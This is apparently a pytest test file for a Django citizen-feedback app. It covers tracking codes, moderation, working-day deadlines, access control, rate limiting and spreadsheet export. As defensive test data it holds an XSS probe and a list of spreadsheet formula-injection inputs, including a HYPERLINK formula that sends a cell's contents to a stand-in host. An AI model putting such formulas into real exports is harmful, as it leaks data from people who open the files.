import csv
import io
import re
from datetime import date, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from django.core.exceptions import ValidationError
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from masyarakat import forms, services
from masyarakat.models import Masukan, UnitLayanan
from masyarakat.tasks import masukan_tutup_task
from pegawai.models import HariLibur, tanggal_libur
from tests import factories

JKT = ZoneInfo("Asia/Jakarta")


@pytest.fixture(autouse=True)
def tasks_in_process(settings):
    """A committed feedback (the transactional tests below) tells its HR through a task: run it
    here, as the laptop default does, not on the session's Celery worker of the integration
    tests, which would read this test's rows while its teardown empties the tables."""
    settings.CELERY_TASK_ALWAYS_EAGER = True  # read by the Celery app at each send


@pytest.fixture
def layanan(cast):
    return UnitLayanan.objects.create(unit=cast.yankes, nama="Poli Umum", kode="poli")


def send(client, layanan, **overrides):
    data = {
        "unit_layanan": layanan.pk,
        "kategori": "keluhan",
        "isi": "Antrean poli terlalu lama sekali",
        "nama": "Rahmah",
        "kontak": "0812000111",
    } | overrides
    return client.post(reverse("masyarakat:masukan_create"), data)


def test_a_citizen_sends_feedback_and_gets_a_tracking_code(client, layanan):
    response = send(client, layanan)
    masukan = Masukan.objects.get()
    assert len(masukan.kode) == 12
    # Answered with a redirect to its tracking page: a refresh there sends nothing again.
    assert response.status_code == 302 and response.url == f"{masukan.get_tracking_url()}?baru=1"
    page = client.get(response.url).content.decode()
    assert "Simpan kode pelacakan ini" in page and masukan.kode in page
    assert "Diterima, menunggu verifikasi" in page
    later = client.get(masukan.get_tracking_url()).content.decode()  # followed another day
    assert "Simpan kode pelacakan ini" not in later and "Diterima, menunggu verifikasi" in later


def test_a_tracking_code_reveals_nothing_else(client, layanan):
    send(client, layanan)
    unknown = client.get(reverse("masyarakat:masukan_status", args=["TIDAKADA0000"]), follow=True)
    assert unknown.status_code == 404 and "Kode tidak ditemukan" in unknown.content.decode()
    page = client.get(Masukan.objects.get().get_tracking_url()).content.decode()
    assert "0812000111" not in page  # the contact is for HR only


def test_what_a_citizen_writes_is_rendered_inert(client, login, cast, layanan):
    send(client, layanan, isi='<img src=x onerror="alert(1)"> antrean lama', nama="<b>x</b>")
    masukan = Masukan.objects.get()
    for page in (
        client.get(masukan.get_tracking_url()),
        login(cast.pengelola).get(reverse("masyarakat:masukan_detail", args=[masukan.pk])),
    ):
        html = page.content.decode()
        assert "<img src=x" not in html and "&lt;img src=x" in html and "<b>x</b>" not in html


def test_size_honeypot_and_rate_limit(client, layanan):
    assert "isi" in send(client, layanan, isi="x" * 2001).context["form"].errors
    assert send(client, layanan, situs_web="http://spam").status_code == 200
    assert not Masukan.objects.exists()
    # What is sent counts, the honeypot's included; a form with errors does not (a citizen
    # correcting it is not bounded): four more are taken, then the sixth sending is refused.
    for _ in range(4):
        send(client, layanan)
    refused = send(client, layanan)
    assert refused.status_code == 429 and Masukan.objects.count() == 4
    assert "Silakan coba lagi dalam 60 menit." in refused.content.decode()
    assert "isi" in send(client, layanan, isi="x" * 2001).context["form"].errors  # still said


def test_moderation_needs_a_reason_and_keeps_the_original_text(cast, layanan, client):
    send(client, layanan)
    masukan = Masukan.objects.get()
    with pytest.raises(ValidationError, match="alasan"):
        services.masukan_moderate(masukan=masukan, action="spam")
    services.masukan_moderate(masukan=masukan, action="spam", alasan="Iklan")
    masukan.refresh_from_db()
    assert (masukan.status, masukan.isi) == ("spam", "Antrean poli terlalu lama sekali")


def flowed(client, layanan, responded_on: date) -> Masukan:
    send(client, layanan)
    masukan = Masukan.objects.get()
    services.masukan_moderate(masukan=masukan, action="teruskan")
    services.masukan_respond(masukan=masukan, tanggapan="Kami tambah petugas loket.")
    Masukan.objects.filter(pk=masukan.pk).update(
        ditanggapi_at=datetime(
            responded_on.year, responded_on.month, responded_on.day, 9, tzinfo=JKT
        )
    )
    masukan.refresh_from_db()
    return masukan


def test_the_citizen_replies_once_within_10_working_days(client, layanan):
    masukan = flowed(client, layanan, date(2026, 11, 16))  # deadline: 30/11/2026
    services.masukan_reply(masukan=masukan, balasan="Terima kasih", today=date(2026, 11, 30))
    with pytest.raises(ValidationError, match="sudah membalas"):
        services.masukan_reply(masukan=masukan, balasan="Lagi", today=date(2026, 11, 30))


def test_a_late_reply_is_refused(client, layanan):
    masukan = flowed(client, layanan, date(2026, 11, 16))
    with pytest.raises(ValidationError, match="sudah lewat"):
        services.masukan_reply(masukan=masukan, balasan="Terlambat", today=date(2026, 12, 1))


def test_it_closes_itself_10_working_days_after_an_unanswered_response(client, layanan):
    masukan = flowed(client, layanan, date(2026, 11, 16))
    assert services.masukan_close_expired(today=date(2026, 11, 30)) == 0
    assert services.masukan_close_expired(today=date(2026, 12, 1)) == 1
    masukan.refresh_from_db()
    assert masukan.status == "selesai" and masukan.ditutup_otomatis


def test_a_replied_response_does_not_close_itself(client, layanan):
    masukan = flowed(client, layanan, date(2026, 11, 16))
    services.masukan_reply(masukan=masukan, balasan="Masih lama", today=date(2026, 11, 20))
    assert services.masukan_close_expired(today=date(2026, 12, 15)) == 0


def test_the_closing_job_is_scheduled(client, layanan):
    from django.conf import settings

    from pembinaan.celery import app

    assert settings.CELERY_BEAT_SCHEDULE["masukan-tutup-otomatis"]["task"] in app.tasks
    assert masukan_tutup_task() == 0


def test_overdue_verification_and_response_are_flagged(client, layanan):
    send(client, layanan)
    masukan = Masukan.objects.get()
    Masukan.objects.filter(pk=masukan.pk).update(created_at=datetime(2026, 11, 16, 9, tzinfo=JKT))
    masukan.refresh_from_db()
    libur = tanggal_libur()
    assert services.terlambat(masukan, date(2026, 11, 19), libur=libur) is None
    assert services.terlambat(masukan, date(2026, 11, 20), libur=libur) == "verifikasi terlambat"


def forwarded_on(layanan, day: date) -> Masukan:
    masukan = Masukan.objects.create(
        unit_layanan=layanan, kategori="keluhan", isi="Antrean lama", status="diteruskan",
        dimoderasi_at=datetime(day.year, day.month, day.day, 10, tzinfo=JKT),
    )  # fmt: skip
    return masukan


def test_a_response_forwarded_before_a_holiday_is_due_a_working_day_later(login, cast, layanan):
    # Tuesday 11 August 2026; Monday the 17th is Independence Day (shipped, pegawai.kalender).
    masukan = forwarded_on(layanan, date(2026, 8, 11))
    libur = tanggal_libur()
    assert services.tanggapan_deadline(masukan, libur=libur) == date(2026, 8, 19)
    assert services.tanggapan_deadline(masukan, libur=frozenset()) == date(2026, 8, 18)
    assert services.terlambat(masukan, date(2026, 8, 19), libur=libur) is None
    assert services.terlambat(masukan, date(2026, 8, 20), libur=libur) == "tanggapan terlambat"
    page = login(cast.pengelola).get(reverse("masyarakat:masukan_detail", args=[masukan.pk]))
    assert "19/08/2026 (5 hari kerja sejak diteruskan)" in page.content.decode()


def test_a_holiday_an_administrator_adds_moves_the_deadlines_at_once(login, cast, layanan):
    masukan = forwarded_on(layanan, date(2026, 11, 16))  # a Monday; due Monday the 23rd
    assert services.tanggapan_deadline(masukan, libur=tanggal_libur()) == date(2026, 11, 23)
    login(cast.admin).post(
        reverse("hari_libur:create"),
        {"tanggal": "2026-11-18", "jenis": "libur_nasional", "nama": "Hari libur daerah uji"},
    )
    assert HariLibur.objects.filter(tanggal=date(2026, 11, 18)).exists()
    assert services.tanggapan_deadline(masukan, libur=tanggal_libur()) == date(2026, 11, 24)
    assert services.terlambat(masukan, date(2026, 11, 24), libur=tanggal_libur()) is None


def test_hr_handles_feedback_of_their_units_only(login, cast, layanan, client):
    send(client, layanan)
    masukan = Masukan.objects.get()
    url = reverse("masyarakat:masukan_detail", args=[masukan.pk])
    page = login(cast.pengelola).get(url).content.decode()
    assert "+62812000111" in page  # HR sees the contact (stored in one form)
    login(cast.pengelola).post(url, {"tindakan": "teruskan"})
    login(cast.pengelola).post(url, {"tindakan": "tanggapi", "teks": "Petugas ditambah."})
    masukan.refresh_from_db()
    assert masukan.status == "ditanggapi"
    # An officer HR assigned reads it (test_tugas.py); a pegawai of the unit not assigned does
    # not, nor another unit's pegawai.
    assert login(cast.pegawai).get(url).status_code == 403  # an officer of no service unit
    layanan.petugas.add(cast.pegawai_pegawai)
    assert login(cast.pegawai).get(url).status_code == 200
    assert login(cast.atasan).get(url).status_code == 403
    loket = UnitLayanan.objects.create(unit=cast.bkd, nama="Loket BKD", kode="loket")
    loket.petugas.add(cast.outsider_pegawai)
    assert login(cast.outsider).get(url).status_code == 404  # another service unit's officer
    other = cast.admin.__class__.objects.create_user("pengelola_bkd", password="x")
    cast.bkd.pengelola.add(other)
    assert login(other).get(url).status_code == 404
    assert list(login(other).get(reverse("masyarakat:masukan_list")).context["items"]) == []


def test_an_anonymous_citizen_stays_anonymous_to_the_unit(login, cast, layanan, client):
    send(client, layanan, anonim="on")
    page = login(cast.pengelola).get(
        reverse("masyarakat:masukan_detail", args=[Masukan.objects.get().pk])
    )
    html = page.content.decode()
    assert "Anonim" in html and "Rahmah" not in html and "0812000111" not in html


def test_the_citizens_home_page_is_public_and_follows_a_code(client, layanan):
    page = client.get(reverse("masyarakat:warga"))
    assert page.status_code == 200 and layanan.get_survey_url() in page.content.decode()
    masukan = Masukan.objects.create(unit_layanan=layanan, kategori="saran", isi="Tambah kursi")
    followed = client.get(reverse("masyarakat:warga"), {"kode": masukan.kode.lower()})
    assert followed["Location"] == masukan.get_tracking_url()


def token(layanan, pegawai) -> str:
    return forms.petugas_token(layanan, pegawai.pk)


def name_officer(client, layanan, cast, **overrides):
    return send(client, layanan, pegawai_dilayani=token(layanan, cast.pegawai_pegawai), **overrides)


def test_the_officer_is_chosen_among_the_units_pegawai(client, cast, layanan):
    name_officer(client, layanan, cast)
    assert Masukan.objects.get().pegawai_dilayani == cast.pegawai_pegawai
    for other in (token(layanan, cast.outsider_pegawai), str(cast.pegawai_pegawai.pk)):
        refused = send(client, layanan, pegawai_dilayani=other)
        assert refused.context["form"].errors["pegawai_dilayani"] == [
            "Pilih petugas yang bertugas di unit layanan ini."
        ]
    options = client.get(
        reverse("masyarakat:masukan_petugas"), {"unit_layanan": layanan.pk}
    ).content.decode()
    assert "Budi Pegawai" in options and "Rina Luar" not in options
    assert cast.pegawai_pegawai.nip not in options


def test_the_officer_list_shows_names_and_opaque_values_only(client, cast, layanan):
    options = client.get(
        reverse("masyarakat:masukan_petugas"), {"unit_layanan": layanan.pk}
    ).content.decode()
    values = re.findall(r'value="([^"]*)"', options)
    officers = (cast.pegawai_pegawai, cast.atasan_pegawai)
    assert sorted(values) == sorted(["", *(token(layanan, p) for p in officers)])
    assert not any(str(p.pk) in values for p in officers)
    other = UnitLayanan.objects.create(nama="Loket lain", kode="LAIN", unit=cast.dinkes)
    assert token(other, cast.pegawai_pegawai) != token(layanan, cast.pegawai_pegawai)


def test_the_named_pegawai_sees_it_only_once_verified_and_may_reply(login, client, cast, layanan):
    name_officer(client, layanan, cast)
    masukan = Masukan.objects.get()
    url = reverse("masyarakat:masukan_pegawai", args=[cast.pegawai_pegawai.pk])
    assert list(login(cast.pegawai).get(url).context["masukan"]) == []
    assert list(login(cast.atasan).get(url).context["masukan"]) == [masukan]  # the atasan, before
    assert list(login(cast.pengelola).get(url).context["masukan"]) == [masukan]
    services.masukan_moderate(masukan=masukan, action="teruskan")
    client_pegawai = login(cast.pegawai)
    assert list(client_pegawai.get(url).context["masukan"]) == [masukan]
    client_pegawai.post(
        url, {"masukan": masukan.pk, "tanggapan": "Saat itu sistem sedang gangguan."}
    )
    masukan.refresh_from_db()
    assert masukan.tanggapan_pegawai.startswith("Saat itu")
    assert (
        login(cast.atasan).post(url, {"masukan": masukan.pk, "tanggapan": "x"}).status_code == 403
    )
    assert login(cast.outsider).get(url).status_code == 404


def test_the_officer_is_never_shown_on_the_public_page(client, cast, layanan):
    name_officer(client, layanan, cast)
    masukan = Masukan.objects.get()
    services.masukan_moderate(masukan=masukan, action="teruskan")
    assert "Budi Pegawai" not in client.get(masukan.get_tracking_url()).content.decode()


def test_the_form_offers_a_new_service_unit_at_once_and_a_closed_one_no_more(
    reference_data, client, layanan
):  # transactional: outside a transaction, as a visit, the active units are cached
    assert "Poli Umum" in client.get(reverse("masyarakat:masukan_create")).content.decode()
    farmasi = UnitLayanan.objects.create(unit=layanan.unit, nama="Loket Farmasi", kode="farmasi")
    assert "Loket Farmasi" in client.get(reverse("masyarakat:masukan_create")).content.decode()
    farmasi.aktif = False
    farmasi.save()
    assert "Loket Farmasi" not in client.get(reverse("masyarakat:masukan_create")).content.decode()


def test_a_submission_reads_no_service_unit(reference_data, client, layanan):
    # transactional: outside a transaction, as a visit, the active units are cached
    client.get(reverse("masyarakat:masukan_create"))  # cached, as by any visit before
    with CaptureQueriesContext(connection) as queries:
        send(client, layanan)
    assert Masukan.objects.get().unit_layanan == layanan
    assert not [q for q in queries if "masyarakat_unitlayanan" in q["sql"]]
    # The feedback and its history row; the HR's notification (issue 19) is written apart.
    written = [q["sql"].split()[0] for q in queries if "pegawai_notifikasi" not in q["sql"]
               and "masukan" in q["sql"] and not q["sql"].startswith("SELECT")]  # fmt: skip
    assert written == ["INSERT", "INSERT"]


def test_only_an_active_service_unit_can_be_chosen(client, layanan):
    tutup = UnitLayanan.objects.create(
        unit=layanan.unit, nama="Loket Lama", kode="lama", aktif=False
    )
    for chosen in (tutup.pk, 999_999):
        errors = send(client, layanan, unit_layanan=chosen).context["form"].errors
        assert errors["unit_layanan"] == ["Pilih salah satu unit layanan dari daftar."]
    assert "unit_layanan" in send(client, layanan, unit_layanan="x").context["form"].errors
    again = send(client, layanan, isi="pendek").content.decode()  # shown again, still chosen
    assert f'<option value="{layanan.pk}" selected>Poli Umum</option>' in again
    assert not Masukan.objects.exists()


@pytest.mark.django_db(transaction=True)
def test_a_service_unit_removed_meanwhile_is_refused_without_an_error_page(client):
    unit = factories.unit("RSUD", "RSUD Raden Mattaher")  # a real commit: no cast, no golongan
    layanan = UnitLayanan.objects.create(unit=unit, nama="Poli Umum", kode="poli")
    client.get(reverse("masyarakat:masukan_create"))  # cached as active
    with connection.cursor() as cursor:  # removed behind the signals, as by another process
        cursor.execute("DELETE FROM masyarakat_unitlayanan WHERE id = %s", [layanan.pk])
    response = send(client, layanan)
    assert response.status_code == 200
    assert response.context["form"].errors["unit_layanan"] == [
        "Unit layanan ini baru saja ditutup; pilih yang lain."
    ]
    assert not Masukan.objects.exists() and not Masukan.history.exists()


def test_shown_again_the_form_offers_the_chosen_units_officers_up_to_a_bound(
    client, cast, layanan, monkeypatch
):
    again = name_officer(client, layanan, cast, isi="pendek").content.decode()
    chosen = token(layanan, cast.pegawai_pegawai)
    assert f'<option value="{chosen}" selected>Budi Pegawai</option>' in again
    assert "Siti Atasan" in again and "Rina Luar" not in again
    monkeypatch.setattr(forms, "PETUGAS_MAX", 1)  # "Budi" before "Siti", by name
    again = name_officer(client, layanan, cast, isi="pendek").content.decode()
    assert "Budi Pegawai" in again and "Siti Atasan" not in again
    options = client.get(
        reverse("masyarakat:masukan_petugas"), {"unit_layanan": layanan.pk}
    ).content.decode()
    assert "Budi Pegawai" in options and "Siti Atasan" not in options


def test_an_officer_is_looked_up_only_when_named(client, cast, layanan):
    client.get(reverse("masyarakat:masukan_create"))
    # named: the field reads them, the model's foreign key check asks again
    for officer, lookups in ((None, 0), (token(layanan, cast.pegawai_pegawai), 2)):
        extra = {"pegawai_dilayani": officer} if officer else {}
        with CaptureQueriesContext(connection) as queries:
            assert send(client, layanan, **extra).status_code == 302
        read = [
            q for q in queries if q["sql"].startswith("SELECT") and "pegawai_pegawai" in q["sql"]
        ]
        assert len(read) == lookups
    assert Masukan.objects.filter(pegawai_dilayani=cast.pegawai_pegawai).count() == 1


def test_the_tracking_page_reads_one_row_whatever_the_feedback_held(client, layanan):
    def queries_of_tracking_page() -> int:
        url = send(client, layanan).url
        with CaptureQueriesContext(connection) as queries:
            assert client.get(url).status_code == 200
        return len(queries)

    alone = queries_of_tracking_page()
    Masukan.objects.bulk_create(
        Masukan(
            unit_layanan=layanan, kategori="saran", isi=f"Masukan lain nomor {n}", kode=f"L{n:011}"
        )
        for n in range(25)
    )
    assert queries_of_tracking_page() == alone == 1


HOSTILE = [
    '=HYPERLINK("http://jahat.example/?c="&B2,"Lihat bukti")',
    "+1",
    "-1+2",
    "@SUM(A1)",
    "\tx",
]


@pytest.mark.parametrize("text", [*HOSTILE, "\rx"])
def test_a_citizens_formula_reaches_hrs_spreadsheet_as_text(login, cast, layanan, client, text):
    send(client, layanan, isi=f"{HOSTILE[0]} antrean lama")  # the citizen's own path
    Masukan.objects.update(isi=text)  # and any other start the form might let through
    hr = login(cast.pengelola)
    response = hr.get(reverse("masyarakat:masukan_list"), {"format": "csv"})
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(body)))[1][-1] == "'" + text
    response = hr.get(reverse("masyarakat:masukan_list"), {"format": "xlsx"})
    cell = load_workbook(io.BytesIO(response.content)).active.cell(row=2, column=7)
    assert cell.data_type == "s" and cell.value == text.replace("\r", "\n")


def form_token(client) -> str:
    """The one-time token of the feedback form, as a citizen's browser receives it."""
    page = client.get(reverse("masyarakat:masukan_create")).content.decode()
    return re.search(r'name="token" value="([^"]+)"', page).group(1)


def test_a_form_sent_twice_makes_one_feedback_and_counts_once(client, layanan, settings):
    """A double click on "Kirim masukan": the second send answers with the first's tracking
    page, with no second row and no second count against the hourly bound."""
    settings.PUBLIC_FORMS_PER_HOUR = 2
    token = form_token(client)
    first = send(client, layanan, token=token)
    second = send(client, layanan, token=token)
    masukan = Masukan.objects.get()
    assert first.url == second.url == f"{masukan.get_tracking_url()}?baru=1"
    assert masukan.history.count() == 1
    # Counted once: one more form goes through, the one after is refused.
    assert send(client, layanan, token=form_token(client)).status_code == 302
    assert send(client, layanan, token=form_token(client)).status_code == 429
    assert Masukan.objects.count() == 2


def test_the_form_page_holds_a_new_token_and_never_the_tracking_code(client, layanan):
    token = form_token(client)
    assert token != form_token(client)
    send(client, layanan, token=token)
    assert token not in Masukan.objects.get().kode and len(Masukan.objects.get().kode) == 12


def test_a_sent_form_sent_again_with_other_words_shows_not_the_first_feedback(client, layanan):
    """The token of a page already sent (kept open on a shared computer, the back button) with
    something else written: no feedback, the first one's code not shown, a new token to send."""
    token = form_token(client)
    send(client, layanan, token=token)
    first = Masukan.objects.get()
    other = "Toilet ruang tunggu kotor sekali"
    again = send(client, layanan, token=token, isi=other, nama="Orang lain")
    html = again.content.decode()
    assert again.status_code == 200 and "sudah pernah dikirim" in html
    assert first.kode not in html and Masukan.objects.count() == 1
    renewed = re.search(r'name="token" value="([^"]+)"', html).group(1)
    assert renewed != token
    assert send(client, layanan, token=renewed, isi=other).status_code == 302
    assert Masukan.objects.filter(isi=other).count() == 1


def test_a_form_sent_again_with_another_name_or_confidentiality_is_not_taken_as_a_repeat(
    client, layanan
):
    """Only every answer alike is a repeat: a citizen who now ticks "rahasia" or writes another
    contact is told the form was sent, not shown the first feedback as if it had taken it."""
    token = form_token(client)
    send(client, layanan, token=token)
    again = send(client, layanan, token=token, kontak="0899 9999 999", rahasia="on")
    assert again.status_code == 200 and "sudah pernah dikirim" in again.content.decode()
    first = Masukan.objects.get()
    assert (first.kontak, first.rahasia) == ("+62812000111", False)


def test_a_form_sent_again_minutes_later_does_not_show_the_first_feedback(client, layanan):
    """A page left open on a shared computer, sent again by the next person, word for word."""
    token = form_token(client)
    send(client, layanan, token=token)
    first = Masukan.objects.get()
    Masukan.objects.filter(pk=first.pk).update(created_at=first.created_at - timedelta(minutes=3))
    again = send(client, layanan, token=token)
    assert again.status_code == 200 and first.kode not in again.content.decode()
    assert Masukan.objects.count() == 1


def test_the_form_page_is_kept_by_no_cache(client, layanan):
    """Its token is one visitor's: a proxy serving it to another would tie their sends."""
    response = client.get(reverse("masyarakat:masukan_create"))
    assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"]


def test_a_form_without_a_token_or_with_a_forged_one_still_sends(client, layanan):
    """A page from before the token (open in a browser during an update) still sends."""
    assert send(client, layanan).status_code == 302
    assert send(client, layanan, token="<bukan token>").status_code == 302
    assert Masukan.objects.count() == 2


@pytest.mark.django_db(transaction=True)
def test_two_sends_of_one_form_at_the_same_moment_make_one_feedback(settings):
    """Both requests at once, each on its own connection: the second waits on the first's
    insert of the same tracking code, then answers with it."""
    import threading

    from django.db import connection, connections
    from django.test import Client

    if connection.vendor != "postgresql":
        pytest.skip("two connections writing at once: SQLite locks the table (PostgreSQL waits)")
    unit = factories.unit("RSUD", "RSUD Raden Mattaher")  # a real commit: no cast, no golongan
    layanan = UnitLayanan.objects.create(unit=unit, nama="Poli Umum", kode="poli")
    settings.PUBLIC_FORMS_PER_HOUR = 1
    token = form_token(Client())
    start, answers = threading.Barrier(2), []

    def click():
        try:
            start.wait()
            answers.append(send(Client(), layanan, token=token))
        finally:
            connections.close_all()

    clicks = [threading.Thread(target=click) for _ in range(2)]
    for thread in clicks:
        thread.start()
    for thread in clicks:
        thread.join()
    masukan = Masukan.objects.get()
    assert [a.status_code for a in answers] == [302, 302]  # counted once: the bound is 1
    assert {a.url for a in answers} == {f"{masukan.get_tracking_url()}?baru=1"}


def test_the_feedback_contact_follows_the_forum_rule_and_may_be_left_empty(client, layanan):
    page = send(client, layanan, kontak="abc").content.decode()
    assert "bukan nomor HP Indonesia" in page and not Masukan.objects.exists()
    send(client, layanan, kontak="0812 3456 7890")
    send(client, layanan, kontak="", isi="Loket tutup sebelum jam layanan")
    assert sorted(Masukan.objects.values_list("kontak", flat=True)) == ["", "+6281234567890"]


def test_the_confidential_option_says_what_it_does(client, login, cast, layanan):
    page = client.get(reverse("masyarakat:masukan_create")).content.decode()
    assert (
        "tidak diperlihatkan kepada petugas unit" in page
        and "publik" not in page.split('id="id_rahasia"')[1][:400]
    )
    send(client, layanan, rahasia="on", email="r@contoh.id")
    masukan = Masukan.objects.get()
    html = login(cast.pengelola).get(reverse("masyarakat:masukan_detail", args=[masukan.pk]))
    assert "+62812000111" not in html.content.decode()


def test_a_too_long_feedback_names_its_limit_with_thousands_separators(client, layanan):
    page = send(client, layanan, isi="x" * 50_000).content.decode()
    assert "paling banyak 2.000 karakter (sekarang 50.000 karakter)" in page
    assert not Masukan.objects.exists()


def test_each_demo_feedback_goes_with_the_service_unit_it_is_about(cast):
    from masyarakat import demo

    for kode in ("poli-rawasari", "perizinan-ptsp", "ktp-kk", "rawat-jalan-rsud"):
        UnitLayanan.objects.create(unit=cast.yankes, nama=kode, kode=kode)
    demo.seed_masukan()
    about = dict(Masukan.objects.values_list("isi", "unit_layanan__kode"))
    assert (
        about["Antrean di loket poli umum lebih dari dua jam pada hari Senin."] == "poli-rawasari"
    )
    assert about["Petugas perizinan sangat membantu menjelaskan persyaratan usaha."] == (
        "perizinan-ptsp"
    )
    assert about["Semoga layanan KTP-el bisa dilakukan di kecamatan tanpa ke kota."] == "ktp-kk"
